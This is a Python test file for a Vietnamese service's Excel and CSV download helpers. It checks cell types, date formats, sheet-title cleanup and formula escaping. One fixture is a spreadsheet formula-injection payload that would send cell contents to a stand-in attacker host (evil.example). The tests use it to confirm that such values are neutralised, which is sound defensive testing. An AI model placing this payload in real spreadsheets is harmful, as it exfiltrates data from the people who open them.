"""The files for Excel (services.web.spreadsheets and downloads): read back as Excel reads
them, with openpyxl and the csv module. Text stays text whatever it looks like; numbers and
dates stay numbers and dates; the two header rows, or the codes alone for scripts."""

import asyncio
import csv
import io
from collections.abc import Sequence
from datetime import UTC, date, datetime
from typing import Any

from fastapi.responses import StreamingResponse
from openpyxl import load_workbook
from openpyxl.cell import Cell
from openpyxl.worksheet.worksheet import Worksheet

from services.web.downloads import csv_download, table_download
from services.web.spreadsheets import CELL_LIMIT, CUT, MEDIA_TYPE, Column, Sheet, xlsx

HYPERLINK = '=HYPERLINK("http://evil.example/?d="&A1,"Bấm vào đây")'
COLUMNS = (Column("name", "Tên đơn vị"), Column("count", "Số tin, bài", "int"),
           Column("share", "Tỉ lệ", "ratio"), Column("on_time", "Đúng hạn", "bool"),
           Column("day", "Ngày", "date"), Column("at", "Lúc nhận", "datetime"))
ROWS = [(HYPERLINK, 1234, 0.875, True, date(2026, 2, 9), datetime(2026, 2, 9, 3, tzinfo=UTC)),
        ("Xã\x01 An\x0b Hưng", None, None, False, None, None)]


def sheet_of(content: bytes, title: str | None = None) -> Worksheet:
    """The sheet of that title in an XLSX file (the first when None)."""
    book = load_workbook(io.BytesIO(content))
    found = book[title] if title is not None else book.worksheets[0]
    assert isinstance(found, Worksheet)
    return found


def table_of(content: bytes, first: str = "code") -> tuple[list[Cell], list[list[Cell]]]:
    """An XLSX table's code row (the one whose first cell is `first`) and its data rows,
    under the heading and the Vietnamese headers, as cells (their values and types)."""
    rows = [list(row) for row in sheet_of(content).iter_rows()]
    at = next(n for n, row in enumerate(rows) if row[0].value == first)
    assert rows[at - 1][0].data_type == "s" and rows[at - 1][0].value != "code"
    return rows[at], [row for row in rows[at + 1:] if any(c.value is not None for c in row)]


def records_of(content: bytes, first: str = "code") -> list[dict[str, Any]]:
    """An XLSX table's data rows by code."""
    codes, rows = table_of(content, first)
    return [{str(c.value): cell.value for c, cell in zip(codes, row, strict=True)}
            for row in rows]


def csv_rows(content: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(content.decode("utf-8-sig"), newline="")))


def body(answer: StreamingResponse) -> bytes:
    async def read() -> bytes:
        return b"".join([c if isinstance(c, bytes) else str(c).encode()
                         async for c in answer.body_iterator])
    return asyncio.run(read())


def workbook(rows: Sequence[Sequence[Any]] = ROWS, **given: Any) -> Worksheet:
    return sheet_of(xlsx([Sheet("Tiến độ", COLUMNS, rows, **given)]))


class TestXlsx:
    def test_a_name_written_as_a_formula_is_text_with_the_same_characters(self) -> None:
        cell = workbook()["A3"]
        assert (cell.value, cell.data_type) == (HYPERLINK, "s")

    def test_numbers_ratios_and_dates_are_numbers_with_their_formats(self) -> None:
        count, share, day, at = (workbook()[f"{c}3"] for c in "BCEF")
        assert (count.value, count.data_type, count.number_format) == (1234, "n", "#,##0")
        assert (share.value, share.number_format) == (0.875, "0.0%")
        assert (day.value, day.data_type, day.number_format) == (
            datetime(2026, 2, 9), "d", "dd/mm/yyyy")
        assert at.value == datetime(2026, 2, 9, 10)  # 03:00 UTC is 10:00 in Hai Phong

    def test_yes_and_no_are_written_in_vietnamese_and_nothing_is_an_empty_cell(self) -> None:
        sheet = workbook()
        assert (sheet["D3"].value, sheet["D4"].value) == ("Có", "Không")
        assert [sheet[f"{c}4"].value for c in "BCEF"] == [None] * 4

    def test_control_characters_are_dropped_from_text(self) -> None:
        assert workbook()["A4"].value == "Xã An Hưng"

    def test_the_two_header_rows_are_frozen_and_the_table_filtered(self) -> None:
        sheet = workbook()
        assert [c.value for c in sheet[1]] == [c.header for c in COLUMNS]
        assert [c.value for c in sheet[2]] == [c.code for c in COLUMNS]
        assert sheet.freeze_panes == "A3"
        assert sheet.auto_filter.ref == "A2:F4"

    def test_a_heading_and_notes_go_above_the_headers(self) -> None:
        sheet = workbook(heading="=Tiến độ kỳ 2026-W04", notes=["Ghi chú: số liệu tạm"])
        assert (sheet["A1"].value, sheet["A1"].data_type) == ("=Tiến độ kỳ 2026-W04", "s")
        assert sheet["A2"].value == "Ghi chú: số liệu tạm"
        assert (sheet["A3"].value, sheet["A4"].value) == ("Tên đơn vị", "name")
        assert sheet.freeze_panes == "A5" and sheet.auto_filter.ref == "A4:F6"
        assert sheet.max_row == 6  # nothing under the table's rows

    def test_an_empty_table_keeps_its_headers(self) -> None:
        sheet = workbook([])
        assert sheet.max_row == 2 and sheet.auto_filter.ref == "A2:F2"

    def test_sheet_titles_are_made_ones_excel_accepts(self) -> None:
        titles = ["Kỳ 2026/W04: [tạm]?", "'Trích'", "", "History", "x" * 40, "X" * 40]
        content = xlsx([Sheet(t, COLUMNS[:1], []) for t in titles])
        names = load_workbook(io.BytesIO(content)).sheetnames
        assert names[:4] == ["Kỳ 2026-W04- -tạm--", "Trích", "Bảng", "History (2)"]
        assert len(names[4]) == 31 and len(set(map(str.casefold, names))) == len(names)


class TestCsv:
    def test_vietnamese_headers_then_the_codes_then_the_rows(self) -> None:
        answer = csv_download("bang", COLUMNS, ROWS)
        content = body(answer)
        assert content.startswith("\ufeff".encode())
        assert answer.media_type == "text/csv; charset=utf-8"
        header, codes, first, second = csv_rows(content)
        assert header == [c.header for c in COLUMNS]
        assert codes == [c.code for c in COLUMNS]
        assert first == ["'" + HYPERLINK, "1234", "0.875", "Có", "2026-02-09",
                         "2026-02-09T10:00:00+07:00"]
        assert second[1:] == ["", "", "Không", "", ""]

    def test_header_code_gives_the_codes_alone_for_scripts(self) -> None:
        content = body(csv_download("bang", COLUMNS, ROWS, header="code"))
        rows = list(csv.DictReader(io.StringIO(content.decode("utf-8-sig"), newline="")))
        assert [r["on_time"] for r in rows] == ["Có", "Không"]
        assert rows[0]["name"] == "'" + HYPERLINK

    def test_a_header_that_starts_like_a_formula_is_quoted_too(self) -> None:
        content = body(csv_download("bang", [Column("-x", "=Tên")], [["a"]]))
        assert csv_rows(content) == [["'=Tên"], ["'-x"], ["a"]]

    def test_one_declaration_gives_either_file(self) -> None:
        sheet = Sheet("Bảng", COLUMNS, ROWS)
        as_xlsx = table_download("xlsx", "bang", sheet)
        assert as_xlsx.media_type == MEDIA_TYPE
        assert 'filename="bang.xlsx"' in as_xlsx.headers["content-disposition"]
        assert [r["count"] for r in records_of(bytes(as_xlsx.body), "name")] == [1234, None]
        as_csv = table_download("csv", "bang", Sheet("Bảng", COLUMNS, ROWS))
        assert isinstance(as_csv, StreamingResponse)
        assert csv_rows(body(as_csv))[1] == [c.code for c in COLUMNS]


def test_text_longer_than_a_cell_holds_is_cut_and_says_so() -> None:
    content = xlsx([Sheet("Dài", COLUMNS[:1], [("ồ" * 40_000,)])])
    value = load_workbook(io.BytesIO(content)).active["A3"].value
    assert len(value) == CELL_LIMIT and value.endswith(CUT)
